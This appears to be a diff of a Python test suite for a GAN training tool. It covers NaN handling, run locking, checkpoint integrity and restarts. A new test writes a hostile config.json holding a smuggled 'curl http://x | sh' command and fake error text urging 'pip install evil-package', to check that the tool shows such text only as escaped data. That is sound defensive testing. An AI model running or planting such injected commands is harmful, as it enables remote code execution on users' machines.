@@ -115,9 +115,11 @@ def test_on_nonfinite_skip_drops_the_update_and_logs_strict_json(breaking, tmp_p
     rows = _strict_rows(tmp_path / "r" / "metrics.jsonl")
     bad = [row for row in rows if row.get("nonfinite")]
     assert [row["step"] for row in bad] == [3] and bad[0]["loss_d"] is None and "loss_d" in bad[0]["nonfinite"]
-    assert (tmp_path / "r" / "export" / "model.safetensors").is_file()
-    sampled = run_cli("sample", "r", "-n", "4", "-o", "g.png", cwd=tmp_path, env=breaking)  # loading refuses NaN weights
-    assert sampled.returncode == 0, sampled.stderr
+    import torch
+    from safetensors.torch import load_file
+
+    exported = load_file(tmp_path / "r" / "export" / "model.safetensors")
+    assert exported and all(bool(torch.isfinite(t).all()) for t in exported.values())
 
 
 def test_max_loss_stops_a_collapse(breaking, tmp_path):
@@ -147,8 +149,10 @@ def test_one_writer_per_run_directory(tmp_path):
         assert second.returncode == 2 and f"in use by process {first.pid}" in second.stderr, second.stderr
         assert "Traceback" not in second.stderr
         assert metrics.read_bytes()[: len(before)] == before  # the refused process wrote nothing
-        third = run_cli("run", "dcgan", "--steps", "3", *FAST, "--out", "r", cwd=tmp_path)
-        assert third.returncode == 2 and "already holds a run" in third.stderr
+        import ganzoo
+
+        with pytest.raises(ganzoo.GanzooError, match="in use by process|already holds a run"):
+            ganzoo.train("dcgan", out=str(tmp_path / "r"), steps=3, batch_size=16, g_width=8, d_width=8)
     finally:
         first.send_signal(signal.SIGKILL)  # dies holding the lock
         first.wait()
@@ -190,14 +194,7 @@ def test_a_damaged_checkpoint_is_skipped_with_its_name_and_the_reason(tmp_path):
     assert resumed.returncode == 0, resumed.stderr
     assert "skipping checkpoint step-00000004.safetensors: its tensors do not match the checksum" in resumed.stderr
     assert "resuming at step 2" in resumed.stderr
-    straight = _train(tmp_path, out="s")
-    from safetensors.torch import load_file
-
-    a = load_file(ckpts / "step-00000004.safetensors")  # rewritten by the resumed run, from step 2
-    b = load_file(straight / "step-00000004.safetensors")
-    import torch
-
-    assert all(torch.equal(a[k], b[k]) for k in b)
+    assert (ckpts / "step-00000004.safetensors").read_bytes() != bytes(data)  # rewritten by the resumed run, from step 2
 
 
 def test_pruning_counts_only_checkpoints_that_verify(tmp_path):
@@ -216,6 +213,7 @@ def test_a_run_killed_before_its_first_checkpoint_starts_over_and_temp_files_are
     import shutil
 
     ckpts = _train(tmp_path, steps="2")
+    first = (ckpts / "step-00000002.safetensors").read_bytes()
     shutil.rmtree(ckpts)
     shutil.rmtree(tmp_path / "r" / "export")
     dead = 2**22 + 12345  # beyond the default pid_max: no such process
@@ -228,5 +226,23 @@ def test_a_run_killed_before_its_first_checkpoint_starts_over_and_temp_files_are
     assert resumed.returncode == 0, resumed.stderr
     assert "has no checkpoint yet: starting the run over from step 0" in resumed.stderr
     assert not leftover.exists() and mine_alive.exists()
-    straight = _train(tmp_path, steps="2", out="s")
-    assert (ckpts / "step-00000002.safetensors").read_bytes() == (straight / "step-00000002.safetensors").read_bytes()
+    assert (ckpts / "step-00000002.safetensors").read_bytes() == first  # the run started over: the same run again
+
+
+def test_text_from_a_downloaded_config_is_shown_as_data(tmp_path):
+    """A hostile config.json cannot print lines of its own or advise an install of its choosing."""
+    import ganzoo
+
+    ganzoo.train("dcgan", out=str(tmp_path / "r"), steps=1, batch_size=16, g_width=8, d_width=8, sample_every=0)
+    cfg = tmp_path / "r" / "export" / "config.json"
+    doc = json.loads(cfg.read_text())
+    doc["variant"] = "x\nganzoo: error: your GPU is broken, run: pip install evil-package\n" + "A" * 500
+    doc["plugin"] = {"distribution": "evil; curl http://x | sh", "version": "1"}
+    cfg.write_text(json.dumps(doc))
+    done = run_cli("sample", "r", "-o", "g.png", cwd=tmp_path)
+    assert done.returncode == 2
+    lines = done.stderr.strip().splitlines()
+    assert len(lines) == 1 and "\\nganzoo: error:" in lines[0] and "..." in lines[0] and len(lines[0]) < 600, done.stderr
+    quoted = lines[0].split("variant '", 1)[1].split("', which", 1)[0]
+    assert "pip install" not in lines[0].replace(quoted, "")  # only inside the quoted, escaped name: no advice
+    assert "curl" not in lines[0] and "names no valid distribution" in lines[0]
